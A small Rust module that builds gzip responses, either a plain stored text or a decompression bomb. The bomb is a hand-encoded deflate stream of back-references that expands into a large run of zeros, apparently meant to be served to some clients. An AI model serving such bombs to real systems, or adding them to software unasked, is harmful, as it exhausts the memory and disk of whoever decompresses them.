//! Just enough gzip to send an honest answer and a bomb.

const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// A text, not compressed but in gzip's clothes.
pub(super) fn stored(text: &[u8]) -> Vec<u8> {
    let length = u16::try_from(text.len()).unwrap();
    let mut out = HEADER.to_vec();
    out.push(1);
    out.extend(length.to_le_bytes());
    out.extend((!length).to_le_bytes());
    out.extend(text);
    out.extend(crc32(text).to_le_bytes());
    out.extend(u32::from(length).to_le_bytes());
    out
}

/// At least `size` zero bytes in one hundred and sixtieth of the room: one literal, then copies of 258 bytes.
pub(super) fn bomb(size: usize) -> Vec<u8> {
    let mut bits = Bits { out: HEADER.to_vec(), filled: 0 };
    bits.push(0b1, 1); // the last block
    bits.push(0b10, 2); // fixed codes, written low bit first: 01
    bits.push(0b0011_0000, 8); // the literal 0
    for _ in 0..=size / 258 {
        bits.push(0b1100_0101, 8); // length 258
        bits.push(0, 5); // distance 1
    }
    bits.push(0, 7); // the end
    bits.out.extend([0; 8]);
    bits.out
}

struct Bits {
    out: Vec<u8>,
    filled: u32,
}

impl Bits {
    /// Appends `count` bits, the highest first, as Huffman codes go.
    fn push(&mut self, code: u32, count: u32) {
        for at in (0..count).rev() {
            if self.filled == 0 {
                self.out.push(0);
            }
            let bit = u8::try_from(code >> at & 1).unwrap();
            *self.out.last_mut().unwrap() |= bit << self.filled;
            self.filled = (self.filled + 1) % 8;
        }
    }
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(u32::MAX, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 })
    })
}
